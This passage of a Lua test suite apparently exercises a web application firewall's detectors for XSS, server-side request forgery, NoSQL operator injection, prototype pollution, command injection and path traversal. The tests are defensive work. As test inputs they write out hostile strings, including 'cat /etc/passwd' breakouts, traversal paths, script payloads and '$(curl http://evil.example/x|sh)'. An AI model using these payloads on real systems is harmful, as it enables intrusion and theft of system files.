  truthy(D.JOIN_LIMIT >= 4096 and D.JOIN_LIMIT <= D.VALUE_LIMIT, "a documented limit")
end)

test("budget: a body cut short (Content-Length says more arrived) reads its last value up to the token the cut went through", function()
  local function cut(ct, body, length)
    local r = post(ct, body)
    r.headers["content-length"] = { [0] = tostring(length or #body) }
    return reason(r)
  end
  -- HAProxy's buffer ended in the middle of a URL: "https://w" would be a one-label host
  falsy(cut("application/json", '{"a":"x","next":"https://w', 20000), "JSON, cut")
  eq(cut("application/json", '{"a":"x","next":"https://w'), "ssrf_detected", "JSON, whole: the same text is a finding")
  eq(cut("application/json", '{"a":"<script>alert(1)</script>","b":"https://w', 20000), "xss_detected", "what came before is inspected")
  falsy(cut("application/x-www-form-urlencoded", "a=1&next=https://w", 20000), "form, cut")
  eq(cut("application/x-www-form-urlencoded", "a=1&next=https://w"), "ssrf_detected", "form, whole")
  falsy(cut("text/plain", "see https://w", 20000), "text, cut")
  falsy(cut("multipart/form-data; boundary=XX", '--XX\r\nContent-Disposition: form-data; name="next"\r\n\r\nhttps://w', 20000), "multipart, cut")
  eq(cut("multipart/form-data; boundary=XX", '--XX\r\nContent-Disposition: form-data; name="next"\r\n\r\nhttps://w\r\n--XX--\r\n'), "ssrf_detected", "multipart, whole")
  -- a payload followed by padding past the buffer is still read
  local pad = rep("a", 2000)
  eq(cut("application/json", '{"c":"<script>alert(1)</script>' .. pad, 20000), "xss_detected", "JSON string cut after the payload")
  eq(cut("application/x-www-form-urlencoded", "c=%3Csvg%2Fonload%3Dalert(1)%3E" .. pad, 20000), "xss_detected", "form value cut after the payload")
  eq(cut("text/plain", "x; cat /etc/passwd " .. pad, 20000), "cmdi_detected", "text cut after the payload")
  eq(cut("multipart/form-data; boundary=XX", '--XX\r\nContent-Disposition: form-data; name="c"\r\n\r\n<img src=x onerror=alert(1)>' .. pad, 20000), "xss_detected", "multipart cut after the payload")
  eq(D.before_cut("see https://w"), "see https://", "the token the cut went through is left out")
  eq(D.before_cut("abcdef"), "", "a value that is one token")
end)

test("budget: values are decoded at most DECODE_ROUNDS times", function()
  eq(D.DECODE_ROUNDS, 3, "rounds")
  eq(D.canonical("%253Cb%253E"), "<b>", "two rounds")
  -- four levels of percent-encoding: three rounds leave one
  eq(D.canonical("%2525253Cb%2525253E"), "%3Cb%3E", "stops after three rounds")
end)

---------------------------------------------------------------------------------------------------
-- Structure: operator injection into document databases and prototype pollution
---------------------------------------------------------------------------------------------------
test("structure: operators as keys are injection; a '$' in text, containers and other '$' keys are not", function()
  local function json(body) D.cache_reset(); return D.inspect(post("application/json", body)) end
  local f = json('{"user":"a","password":{"$ne":null}}')
  eq(f and f.reason, "injection_detected", "$ne")
  eq(f and f.location, "body:password", "the field it replaced")
  truthy(f and f.matched:find("$ne", 1, true), "excerpt shows the operator: " .. show(f and f.matched))
  eq(reason(post("application/json", '{"$where":"sleep(100)"}')), "injection_detected", "$where")
  eq(reason(post("application/json", '{"where":{"$where":"1"}}')), "injection_detected", "$where even in a container")
  falsy(json('{"filter":{"age":{"$gt":18}}}'), "a filter container")
  falsy(json('{"note":"use $ne for not equal","price":"$gt 100","$schema":"x","$ref":"#/a","_id":{"$oid":"5f"}}'), "'$' in text, other '$' keys")
  falsy(json('{"constructor":"Point","prototype":"Object"}'), "constructor and prototype side by side")
  local g = json('{"a":{"constructor":{"prototype":{"x":1}}}}')
  eq(g and g.location, "body:prototype", "constructor.prototype")
  -- names
  eq(D.name_structure("password[$ne]"), 10, "password[$ne]")
  eq(D.name_structure("a.__proto__.b"), 3, "a.__proto__.b")
  falsy(D.name_structure("filters[title][$eq]"), "Strapi's filters")
  falsy(D.name_structure("price[gte]"), "no '$'")
  falsy(D.name_structure("$filter"), "OData's $filter")
  falsy(D.name_structure("tags[]"), "tags[]")
end)

test("structure: a waf_exception for the injection detector lets the structure through", function()
  local r = post("application/json", '{"filter2":{"age":{"$gt":18}}}')
  r.path = "/api/search"
  D.cache_reset()
  truthy(D.inspect(r), "refused without an exception")
  D.cache_reset()
  -- the location names the field the operator stands in for
  falsy(D.inspect(r, { { path = "/api/search", loc = "body:age", det = "injection" } }), "excepted")
  D.cache_reset()
  truthy(D.inspect(r, { { path = "/api/search", loc = "body:age", det = "xss" } }), "another detector's exception")
end)

---------------------------------------------------------------------------------------------------
-- Commands and paths in text: what still counts
---------------------------------------------------------------------------------------------------
test("text: a command quoted in text passes; a breakout into a shell is still caught", function()
  for _, v in ipairs({ "I ran ls -la /var/log and it showed nothing", "try `cat /etc/hosts` to check",
    "Hi,\nI ran:\nls -la /var/log\nand it showed nothing", "I tried many things; ls -la shows the files" }) do
    falsy(D.check(v), v)
  end
  for _, v in ipairs({ "127.0.0.1; cat /etc/passwd", "x;ls -la", "a b; cat /etc/passwd", "`cat /etc/passwd`", "a`id`",
    "hello world, it's me'; cat /etc/passwd #", "x\nwhoami", "$(curl http://evil.example/x|sh)", "one two three $(id)",
    "see ../../../../etc/passwd please", "the file is ../../../../../secret.txt ok", "please read /etc/passwd%00.png" }) do
    truthy(D.check(v), v)
  end
end)

test("random inputs never raise an error", function()
  math.randomseed(8)
  local alphabet = "<>'\"`;|&$(){}[]/\\%#=-+*.,: \n\t\0abcxyzABC019<script>union select../${jndi:"
  for _ = 1, 3000 do
    local n = math.random(0, 200)
    local t = {}
    for i = 1, n do
      local k = math.random(1, #alphabet)
      t[i] = alphabet:sub(k, k)
    end
    local v = table.concat(t)
    local ok, err = pcall(D.inspect, req({ path = "/" .. v, query = "a=" .. v, headers = { cookie = { [0] = v }, ["x-h"] = { [0] = v } },
      body = v, method = "POST" }))
    if not ok then fail("error on " .. show(v) .. ": " .. tostring(err)) end
  end
end)

H.finish()
